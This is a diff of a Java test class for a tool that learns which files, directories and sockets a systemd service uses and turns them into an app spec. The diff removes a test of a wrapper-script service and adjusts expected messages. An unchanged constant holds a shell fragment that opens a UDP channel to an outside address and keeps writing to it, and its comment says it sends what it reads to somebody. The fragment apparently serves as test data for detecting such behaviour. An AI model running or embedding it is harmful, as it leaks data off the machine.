@@ -19,8 +19,6 @@ class LearnedFilesTest {
       NoNewPrivileges=yes
       """;
 
-  private static final String WAITS = "1000";
-
   /** The same, and on this day it sends what it reads to somebody. */
   private static final String EXTRA = "exec 4<>/dev/udp/192.0.2.7/514; while :; do echo x >&4;";
 
@@ -49,7 +47,6 @@ class LearnedFilesTest {
     var builder = ChildJvm.shown(VirtualDevice.named("learning"));
     try (VirtualDevice device = builder.boot()) {
       learnsWhatAServiceUses(device);
-      learnsWhatStaysOfAWrapper(device);
       combinesWhatTwoDevicesSaw(device);
       becomesAnApp(device);
     }
@@ -67,50 +64,17 @@ class LearnedFilesTest {
     assertThat(joined(learned.stderr()))
         .contains(
             "note: systemInfo: reads /proc/loadavg",
-            "note: state: writes to /var/lib/sandbar-gauge/load",
-            "note: keeps what it has in /var/lib/gauge: the spec names the app's own places",
+            "note: state: writes to /var/lib/gauge/load",
+            "an app has directories of its own",
             "saved what was seen on pump-1 in /root/1.json");
     assertThat(learned.stdout())
-        .contains("name: gauge", "systemInfo: true", "state: true", "/var/lib/sandbar-gauge/load")
+        .contains("name: gauge", "systemInfo: true", "state: true")
         .doesNotContain("internet", "jit", "unixSockets", "mode:", "NoNewPrivileges");
     assertThat(device.exec("stat", "-c", "%a %U", "/root/1.json").stdout().strip())
         .isEqualTo("600 root");
     assertThat(bad(device, "learn gauge --save /root/1.json"))
         .contains("/root/1.json exists already, and is not overwritten");
     device.write("/root/gauge.yaml", learned.stdout());
-  }
-
-  /**
-   * A service that systemd listens for, whose unit names a script and variables of a file: the
-   * script asks for names, as every program does, and then becomes the program itself.
-   */
-  private static void learnsWhatStaysOfAWrapper(VirtualDevice device) {
-    device.write("/etc/systemd/system/bell.socket", "[Socket]\nListenStream=8088\n");
-    device.write(
-        "/etc/systemd/system/bell.service",
-        """
-        [Service]
-        EnvironmentFile=/etc/default/bell
-        ExecStart=/usr/local/bin/bell $OPTIONS
-        TasksMax=4000
-        """);
-    device.write("/etc/default/bell", "OPTIONS=%s\n".formatted(WAITS));
-    device.write(
-        "/usr/local/bin/bell",
-        "#!/bin/sh\ngetent ahosts localhost >/dev/null\necho $$ >/run/bell.pid\nexec sleep \"$@\"\n");
-    device.exec("chmod", "755", "/usr/local/bin/bell").orThrow();
-    device.exec("systemctl", "daemon-reload").orThrow();
-    device.exec("systemctl", "start", "bell.socket", "bell").orThrow();
-    CommandResult learned = good(device, "learn bell --restart --for 2s");
-    assertThat(learned.stdout())
-        .contains("via: Socket", "port: 8088", "/usr/bin/sleep", WAITS)
-        .doesNotContain("internet", "localNetwork", "networkStatus", "/usr/local/bin/bell");
-    assertThat(joined(learned.stderr()))
-        .contains(
-            "note: what has to change before it runs:",
-            "writes to /run/bell.pid: an app has nothing to write to in /run",
-            "ExecStart=/usr/local/bin/bell $OPTIONS: the program that stayed is /usr/bin/sleep");
-    device.exec("systemctl", "stop", "bell.socket", "bell").orThrow();
   }
 
   private static void combinesWhatTwoDevicesSaw(VirtualDevice device) {
